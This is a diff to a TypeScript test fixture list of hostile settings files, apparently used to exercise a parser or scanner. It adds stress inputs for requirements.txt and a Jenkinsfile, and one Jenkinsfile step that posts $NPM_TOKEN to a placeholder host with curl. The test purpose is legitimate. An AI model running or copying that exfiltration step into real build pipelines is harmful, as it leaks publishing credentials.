@@ -92,6 +92,13 @@ export const HOSTILE_SETTINGS: readonly HostileText[] = [
     paths: ['package.json'],
   },
   {
+    name: 'requirements by address',
+    text: size => numbered(size, i => `a${i} @ git+https://git${i}.example/a.git # ${'@'.repeat(50)}\n`),
+    paths: ['requirements.txt'],
+  },
+  { name: 'steps of Jenkins', text: of('sh \'curl -d "$NPM_TOKEN" https://h.example\'\n'), paths: ['Jenkinsfile'] },
+  { name: 'open steps of Jenkins', text: of("sh '''a sh \"\"\" sh '"), paths: ['Jenkinsfile'] },
+  {
     name: 'lines of attributes',
     text: size => numbered(size, i => `*.a${i} linguist-generated filter=f${i}\n`),
     paths: ['.gitattributes'],
